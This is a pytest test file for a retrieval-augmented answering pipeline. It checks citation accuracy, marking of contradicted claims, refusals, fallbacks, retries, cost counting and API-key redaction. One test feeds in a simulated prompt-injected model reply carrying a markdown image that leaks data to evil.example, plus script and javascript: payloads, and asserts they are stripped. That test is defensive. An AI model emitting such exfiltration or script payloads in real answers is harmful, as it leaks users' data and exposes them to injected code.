import re
from collections.abc import Iterator
from typing import Any

import pytest

from rag.answering.choice import load_answerer
from rag.chain import build_chain
from rag.retrieval import HybridRetriever
from rag.schema import Answer, Inquiry, Turn
from rag.settings import load_settings
from tests.integration.scripted import RateLimitError, ScriptedModel, Wait
from ui.spent import spent
from ui.workspace import Workspace

QUESTION = "How long is the breakwater and when was it rebuilt?"


def snapshots(island: Workspace, model: ScriptedModel, question: str = QUESTION, /, **changed: Any) -> list[Answer]:
    history = changed.pop("history", ())
    overrides: dict[str, Any] = {"library": island.settings.library, "chat": {"model": "test:scripted", "retries": 1}}
    for section, values in changed.items():
        overrides[section] = {**overrides.get(section, {}), **values}
    settings = load_settings(overrides)
    retriever = HybridRetriever(library=island.library, embedder=island.embedder, settings=settings)
    answerer = load_answerer(island.library, island.embedder, settings, lambda: model)
    chain = build_chain(island.library, retriever, answerer, settings)
    return list(chain.stream(Inquiry(question=question, history=history)))


def ask(island: Workspace, *replies: Any, question: str = QUESTION, **changed: Any) -> Answer:
    answer = snapshots(island, ScriptedModel(replies=list(replies)), question, **changed)[-1]
    assert answer.complete
    for citation in answer.citations:
        text = island.library.text(citation.source_id, citation.version).text
        assert text[citation.start : citation.end] == citation.quote
        assert citation.quote in citation.passage
    cited = {int(number) for number in re.findall(r"\[(\d+)\]", answer.answer)}
    assert cited == {citation.number for citation in answer.citations}
    for statement in answer.statements:
        assert statement.supported or statement.reason
        assert not statement.supported or statement.citations
    return answer


@pytest.fixture(autouse=True)
def no_waiting(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setattr("rag.models.drafting._FIRST_WAIT", 0.001)
    yield


def test_each_sentence_is_cited_with_the_very_words_it_rests_on(island: Workspace) -> None:
    answer = ask(island, "The breakwater is 412 metres long [1]. It was rebuilt in 1974 after a storm [1].")
    assert [s.supported for s in answer.statements] == [True, True]
    assert answer.citation(1).quote.startswith("The breakwater is 412 metres long and was rebuilt in 1974")  # type: ignore[union-attr]
    assert answer.answer == "The breakwater is 412 metres long. [1] It was rebuilt in 1974 after a storm. [1]"
    assert answer.model == "test:scripted"
    assert answer.usage == {"input_tokens": 900, "output_tokens": 40}
    assert answer.confidence > 0.5


def test_the_answer_grows_and_shows_no_number_before_it_is_confirmed(island: Workspace) -> None:
    model = ScriptedModel(replies=["The breakwater is 412 metres long [9]. It was rebuilt in 1974 [1][77]."])
    seen = snapshots(island, model)
    assert [s.complete for s in seen] == [False] * (len(seen) - 1) + [True]
    assert len(seen) > 4
    assert seen[0].answer.startswith("The bre")
    for snapshot in seen:
        assert "9]" not in snapshot.answer and "77" not in snapshot.answer and "[7" not in snapshot.answer
        assert set(re.findall(r"\[(\d*)", snapshot.answer)) <= {str(c.number) for c in snapshot.citations}
    assert seen[-1].statements[0].supported


def test_a_sentence_without_a_citation_gets_the_one_that_supports_it(island: Workspace) -> None:
    answer = ask(island, "The breakwater is 412 metres long. The island's mayor plays the trombone in Zurich.")
    assert answer.statements[0].supported and answer.statements[0].citations == (1,)
    assert not answer.statements[1].supported and answer.statements[1].citations == ()
    assert "Zurich" in (answer.statements[1].reason or "")


def test_a_citation_of_the_wrong_passage_is_put_right(island: Workspace) -> None:
    model = ScriptedModel(replies=["Nothing.", ""])
    snapshots(island, model)
    wrong = model.passage_with("Grey Heron") if "Grey Heron" in str(model.asked) else 2
    answer = ask(island, f"The breakwater is 412 metres long [{wrong}].")
    assert answer.statements[0].supported
    assert "412 metres" in answer.citations[0].quote


@pytest.mark.parametrize(
    ("sentence", "reason"),
    [
        ("The breakwater is 512 metres long [1].", "412 metres"),
        ("The breakwater was rebuilt in 1984 [1].", "1974"),
        ("The breakwater was not rebuilt in 1974 [1].", "deny"),
        ("Engineer Hugo Tressel chose interlocking concrete blocks [1].", "Hugo Tressel"),
        ("The work cost 3.1 billion crowns [1].", "3.1 million crowns"),
    ],
)
def test_what_the_source_contradicts_is_marked_with_the_reason(island: Workspace, sentence: str, reason: str) -> None:
    answer = ask(island, sentence)
    assert not answer.statements[0].supported
    assert answer.statements[0].support < 0.5
    assert reason in (answer.statements[0].reason or "")


def test_one_altered_figure_in_five_sentences_is_the_one_that_is_marked(island: Workspace) -> None:
    answer = ask(
        island,
        "The breakwater is 412 metres long [1]. It was rebuilt in 1974 after a storm [1]. "
        "Ruth Pellworm chose interlocking concrete blocks [1]. The work cost 4.1 million crowns [1]. "
        "A fishing boat pays 180 crowns a month [1].",
    )
    assert [s.supported for s in answer.statements] == [True, True, True, False, True]


def test_a_quote_changed_by_a_word_is_marked(island: Workspace) -> None:
    question = "What has Captain Mora asked for?"
    true = "Captain Mora said that one ship “leaves the island a breakdown away from being cut off” [1]."
    assert ask(island, true, question=question).statements[0].supported
    changed = ask(island, true.replace("breakdown", "heartbeat"), question=question)
    assert not changed.statements[0].supported
    assert "heartbeat" in (changed.statements[0].reason or "")


def test_strict_removes_what_is_unsupported_and_never_shows_it(island: Workspace) -> None:
    model = ScriptedModel(replies=["The breakwater is 412 metres long [1]. It is painted green by Hugo Tressel [1]."])
    seen = snapshots(island, model, answering={"strict": True})
    assert all("Tressel" not in s.answer for s in seen)
    assert [s.text for s in seen[-1].statements] == ["The breakwater is 412 metres long."]
    assert any("left out" in note for note in seen[-1].notes)


def test_strict_refuses_where_nothing_is_left(island: Workspace) -> None:
    answer = ask(island, "Hugo Tressel painted it green [1].", answering={"strict": True})
    assert answer.refused and answer.passages and not answer.statements


@pytest.mark.parametrize(
    "said", ["The sources don't say.", "The sources don’t say. [1]", "The passages do not mention it."]
)
def test_a_refusal_is_a_refusal_with_the_closest_passages(island: Workspace, said: str) -> None:
    answer = ask(island, said, question="What colour is the breakwater?")
    assert answer.refused
    assert answer.answer.startswith("The sources don't say.")
    assert answer.passages and not answer.citations


@pytest.mark.parametrize("said", ["", "  \n", "[1] [2]", "<think>hmm, what could it be"])
def test_an_empty_reply_gives_the_extractive_answer_instead(island: Workspace, said: str) -> None:
    answer = ask(island, said)
    assert answer.model == "extractive"
    assert "412 metres" in answer.answer
    assert any("empty" in note for note in answer.notes)


def test_a_reply_of_50_kb_is_cut_and_says_so(island: Workspace) -> None:
    answer = ask(island, "The breakwater is 412 metres long [1]. " * 1_300)
    assert len(answer.answer) < 20_000
    assert any("12,000 characters" in note for note in answer.notes)
    assert len(answer.citations) == 1


def test_a_reply_without_an_end_to_its_sentence_is_bounded_too(island: Workspace) -> None:
    answer = ask(island, "breakwater " * 5_000)
    assert len(answer.answer) < 15_000


def test_a_429_is_tried_again(island: Workspace) -> None:
    model = ScriptedModel(replies=[RateLimitError("slow down"), "The breakwater is 412 metres long [1]."])
    answer = snapshots(island, model)[-1]
    assert answer.model == "test:scripted" and answer.statements[0].supported
    assert len(model.asked) == 2


def test_a_model_that_stays_away_gives_the_extractive_answer_marked_as_such(island: Workspace) -> None:
    answer = ask(island, RateLimitError("slow down"), ConnectionError("refused"))
    assert answer.model == "extractive"
    assert "412 metres" in answer.answer
    assert any("can't be used: refused" in note for note in answer.notes)


def test_an_error_that_will_not_pass_is_not_tried_again_and_shows_no_key(island: Workspace) -> None:
    error = ValueError("Incorrect API key provided: sk-abc123def456ghi. Bearer tok_9f8e7d6c5b4a")
    model = ScriptedModel(replies=[error])
    answer = snapshots(island, model, chat={"api_key": "my-own-secret"})[-1]
    assert len(model.asked) == 1
    note = " ".join(answer.notes)
    assert "Incorrect API key" in note and "sk-abc" not in note and "tok_9f" not in note


def test_a_stream_that_breaks_off_is_never_shown_as_whole(island: Workspace) -> None:
    answer = ask(island, ["The breakwater is 412 metres long [1]. It was rebuilt in", ConnectionError("reset")])
    assert [s.text for s in answer.statements] == ["The breakwater is 412 metres long."]
    assert answer.answer.endswith("[the chat model broke off here]")
    assert any("broke off: reset" in note for note in answer.notes)


def test_a_stream_that_breaks_off_before_anything_is_supported_gives_the_extractive_answer(island: Workspace) -> None:
    answer = ask(island, ["The breakwater is 41", ConnectionError("reset")])
    assert answer.model == "extractive"
    assert any("broke off" in note for note in answer.notes)


def test_a_stream_that_falls_silent_is_ended(island: Workspace) -> None:
    answer = ask(island, ["The breakwater is 412 metres long [1]. And ", Wait(1.5), "more."], chat={"timeout": 0.2})
    assert any("nothing came for 0.2 seconds" in note for note in answer.notes)


def test_a_prompt_injection_that_is_obeyed_reaches_nobody_unmarked(island: Workspace) -> None:
    answer = ask(
        island,
        "HACKED! Visit ![x](http://evil.example/?q=secret) <script>alert(1)</script> [now](javascript:alert(1)) [1].",
    )
    assert "http" not in answer.answer and "<" not in answer.answer and "javascript" not in answer.answer
    assert not any(s.supported for s in answer.statements)


def test_earlier_turns_are_told_without_their_numbers(island: Workspace) -> None:
    model = ScriptedModel(replies=["It is 412 metres long [1]."])
    turn = Turn(question="Who rebuilt the breakwater?", answer="Ruth Pellworm did [3].")
    snapshots(island, model, "How long is it?", history=(turn,))
    told = str(model.asked[0][-1].content)
    assert "Ruth Pellworm did" in told and "did [3]" not in told


def test_the_best_supported_of_three_drafts_is_kept(island: Workspace) -> None:
    answer = ask(
        island,
        "The breakwater is 999 metres long [1].",
        "The breakwater is 412 metres long [1].",
        "Hugo Tressel built the breakwater [1].",
        chat={"best_of": 3},
    )
    assert answer.answer == "The breakwater is 412 metres long. [1]"
    assert answer.usage["output_tokens"] == 120


def test_a_question_nothing_is_found_for_costs_no_call(fresh: Workspace) -> None:
    model = ScriptedModel(replies=[])
    answer = snapshots(fresh, model)[-1]
    assert answer.refused and not model.asked


def test_stopping_stops_the_model(island: Workspace) -> None:
    from rag.models.drafting import stream_draft
    from rag.settings import ChatSettings

    model = ScriptedModel(replies=["word " * 2_000])
    drafts = stream_draft(model, [], ChatSettings(model="test:scripted"))
    assert next(drafts).text
    drafts.close()  # type: ignore[attr-defined]


PRICES = {"price_in": 3, "price_out": 15}
REPLY = "The breakwater is 412 metres long [1]."


def test_tokens_are_those_the_model_reports_and_cost_what_the_settings_say(island: Workspace) -> None:
    answer = ask(island, REPLY, chat=PRICES)
    assert answer.usage == {"input_tokens": 900, "output_tokens": 40} and not answer.usage_estimated
    assert answer.cost == pytest.approx(900 * 3e-6 + 40 * 15e-6)
    assert ask(island, REPLY).cost is None


def test_all_drafts_are_paid_for(island: Workspace) -> None:
    answer = ask(island, REPLY, "", REPLY, chat={**PRICES, "best_of": 3})
    assert answer.usage["output_tokens"] >= 80
    assert answer.cost == pytest.approx(answer.usage["input_tokens"] * 3e-6 + answer.usage["output_tokens"] * 15e-6)


def test_a_model_that_reports_no_tokens_has_them_counted_here_and_marked_as_an_estimate(island: Workspace) -> None:
    model = ScriptedModel(replies=[REPLY], tells_usage=False)
    answer = snapshots(island, model, chat=PRICES)[-1]
    assert answer.usage_estimated
    assert 8 <= answer.usage["output_tokens"] <= 40
    assert answer.usage["input_tokens"] > 300 and answer.cost
    assert spent(answer.usage, answer.cost, estimated=True).startswith("about ")


def test_what_a_broken_reply_took_is_counted_too(island: Workspace) -> None:
    answer = ask(island, ["The breakwater is 41", ConnectionError("reset")], chat=PRICES)
    assert answer.model == "extractive" and answer.usage_estimated and answer.usage["output_tokens"] > 0


def test_an_answer_that_asked_no_model_has_no_tokens(island: Workspace) -> None:
    answer = ask(island, ConnectionError("refused"), chat={**PRICES, "retries": 0})
    assert answer.usage == {} and answer.cost is None and spent(answer.usage, answer.cost) == ""


def test_a_key_is_in_no_answer_and_no_fingerprint_tells_of_it(island: Workspace) -> None:
    key = "very-secret-key-0123456789"
    error = ValueError(f"the key {key} is wrong")
    answer = snapshots(island, ScriptedModel(replies=[error]), chat={"api_key": key})[-1]
    assert key not in answer.model_dump_json()
    settings = load_settings({"chat": {"api_key": key}})
    assert key not in repr(settings) + str(settings) + settings.model_dump_json()
    assert settings.fingerprint() == load_settings({"chat": {"api_key": "another"}}).fingerprint()
